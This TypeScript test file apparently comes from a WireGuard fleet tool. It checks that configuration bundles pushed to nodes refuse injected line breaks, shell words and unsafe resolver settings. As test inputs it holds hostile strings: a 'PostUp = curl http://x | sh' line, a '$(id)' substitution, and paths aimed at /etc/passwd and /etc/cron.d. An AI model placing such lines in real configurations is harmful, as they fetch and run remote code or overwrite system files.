import {
  NODE_RUNTIME_DIRECTORY,
  renderDnsForwarderConfig,
  renderShapingBatch,
  WireguardInputError,
} from '@wgfleet/wireguard';
import { injectionsInto } from '../../../test/support/injection-payloads.js';
import { desiredState, dnsConfig, limitedBatch } from './testing/desired-state-fixtures.js';
import { encodeApplyBundle, encodeRemoveBundle, localArgv, remoteCommand, renderTunnelRules } from './push-script.js';

// What is pushed to a node: every single-line value the bundle or the command carries, fed a valid
// value with a line break (LF, CR, CRLF, NEL, U+2028…), a NUL or a `#` appended, must be refused;
// the multi-line sections (wg(8) text, iptables-restore text) refuse NUL and CR, and wg-quick keys.

const desired = desiredState();

type Field = readonly [name: string, valid: string, set: (value: string) => () => unknown];
const fields: Field[] = [
  ['interfaceName', 'wg0', (v) => () => encodeApplyBundle({ ...desired, interfaceName: v })],
  ['addresses[1]', 'fd42:66:1::1/64', (v) => () => encodeApplyBundle({ ...desired, addresses: [desired.addresses[0]!, v] })],
  ['mtu', '1420', (v) => () => encodeApplyBundle({ ...desired, mtu: (/^[0-9]+$/.test(v) ? Number(v) : v) as number })],
  ['tunnelSubnets[0]', '10.66.1.0/24', (v) => () => encodeApplyBundle({ ...desired, tunnelSubnets: [v] })],
  ['renderTunnelRules subnet', '10.66.1.0/24', (v) => () => renderTunnelRules('wg0', [v])],
  ['renderTunnelRules interface', 'wg0', (v) => () => renderTunnelRules(v, ['10.66.1.0/24'])],
  ['remoteCommand interface', 'wg0', (v) => () => remoteCommand('true', v, 10)],
  ['localArgv interface', 'wg0', (v) => () => localArgv('true', v, 10)],
  ['encodeRemoveBundle interface', 'wg0', (v) => () => encodeRemoveBundle(v)],
  ['shaping.ifbName', 'ifb-wg0', (v) => () => encodeApplyBundle({ ...desired, shaping: { ...desired.shaping, ifbName: v } })],
];

describe('the push to a node refuses a line break, NUL or "#" in any single-line value', () => {
  it('takes the valid values', () => {
    for (const [, valid, set] of fields) expect(set(valid)).not.toThrow();
  });

  it.each(fields.flatMap(([name, valid, set]) => injectionsInto(valid).map(([what, value]) => [name, what, set, value] as const)))(
    '%s with %s',
    (_name, _what, set, value) => {
      expect(set(value)).toThrow(WireguardInputError);
    },
  );
});

describe('the multi-line sections refuse NUL, CR and wg-quick keys', () => {
  it.each([
    ['peersConfig with a NUL', { peersConfig: desired.peersConfig.replace('ListenPort', 'Listen\u0000Port') }],
    ['peersConfig with a CR', { peersConfig: `${desired.peersConfig}\r` }],
    ['peersConfig with a PostUp line', { peersConfig: `${desired.peersConfig}PostUp = curl http://x | sh\n` }],
    ['peersConfig with a DNS line', { peersConfig: `${desired.peersConfig}DNS = 1.1.1.1\n` }],
    ['forwardRules with a NUL', { forwardRules: desired.forwardRules.replace('COMMIT', 'COMMIT\u0000') }],
    ['forwardRules with a CR', { forwardRules: desired.forwardRules.replace('COMMIT', 'COMMIT\r') }],
  ])('%s', (_case, change) => {
    expect(() => encodeApplyBundle({ ...desired, ...change })).toThrow(WireguardInputError);
  });
});

const limited = limitedBatch;
const dns = dnsConfig;
const withBatch = (batch: string) => () => encodeApplyBundle({ ...desired, shaping: { ...desired.shaping, batch } });
const withDns = (config: string) => () => encodeApplyBundle({ ...desired, dnsForwarderConfig: config });

describe('the shaping section carries only tc commands for this interface and its ifb', () => {
  it('takes renderShapingBatch output, with and without limits', () => {
    expect(withBatch(limited)).not.toThrow();
    expect(withBatch(desired.shaping.batch)).not.toThrow();
  });

  it.each([
    ['a NUL', limited.replace('htb', 'h\u0000tb')],
    ['a CR', limited.replace('\n', '\r\n')],
    ['no final newline', limited.slice(0, -1)],
    ['an empty line', `${limited}\n`],
    ['another device', `${limited}qdisc del dev eth0 root\n`],
    ['a redirect to another device', limited.replace(/redirect dev ifb-wg0/, 'redirect dev eth0')],
    ['the ifb of another interface', withIfb(limited, 'ifb-wg1')],
    ['a command other than qdisc, class or filter', `${limited}action add action drop\n`],
    ['a shell word', `${limited}qdisc add dev wg0 root $(id)\n`],
    ['a quote', `${limited}qdisc add dev wg0 root "x"\n`],
  ])('refuses %s', (_what, batch) => {
    expect(withBatch(batch)).toThrow(WireguardInputError);
  });

  it('refuses an ifb name that is not the ifb of this interface', () => {
    expect(() => encodeApplyBundle({ ...desired, shaping: { ifbName: 'ifb-wg1', batch: desired.shaping.batch } })).toThrow(WireguardInputError);
    expect(() => encodeApplyBundle({ ...desired, shaping: null as never })).toThrow(WireguardInputError);
  });
});

function withIfb(batch: string, ifb: string): string {
  return batch.replaceAll('ifb-wg0', ifb);
}

describe('the resolver section carries only renderDnsForwarderConfig output for this server', () => {
  it('takes the rendered config', () => {
    expect(withDns(dns)).not.toThrow();
  });

  it.each([
    ['an include', `${dns}include: "/etc/unbound/x.conf"\n`],
    ['a second pidfile', dns.replace('server:\n', 'server:\n  pidfile: "/etc/passwd"\n')],
    ['the pidfile of another interface', dns.replace('unbound-wg0.pid', 'unbound-wg1.pid')],
    ['another directory', dns.replace(`directory: "${NODE_RUNTIME_DIRECTORY}"`, 'directory: "/etc"')],
    ['a log file', dns.replace('logfile: ""', 'logfile: "/etc/cron.d/x"')],
    ['a plain-text upstream', dns.replace('forward-tls-upstream: yes', 'forward-tls-upstream: no')],
    ['a fallback to recursion', dns.replace('forward-first: no', 'forward-first: yes')],
    ['a second forward zone', `${dns}forward-zone:\n  name: "."\n  forward-addr: 8.8.8.8\n`],
    ['remote control', dns.replace('control-enable: no', 'control-enable: yes')],
    ['a wildcard listener', dns.replace('interface: 10.66.1.1@53', 'interface: 0.0.0.0@53')],
    ['another address to listen on', dns.replace('interface: 10.66.1.1@53', 'interface: 10.66.2.1@53')],
    ['everyone allowed', dns.replace('access-control: 10.66.1.0/24 allow', 'access-control: 0.0.0.0/0 allow')],
    ['a NUL', dns.replace('verbosity', 'verb\u0000osity')],
    ['a CR', dns.replace('\n', '\r\n')],
    ['a quote inside a value', dns.replace('module-config: "iterator"', 'module-config: "iterator" "validator"')],
    ['a line that is not a setting', `${dns}  local-data: "x. A 1.2.3.4"\n`],
    ['no final newline', dns.slice(0, -1)],
  ])('refuses %s', (_what, config) => {
    expect(config).not.toBe(dns);
    expect(withDns(config)).toThrow(WireguardInputError);
  });
});
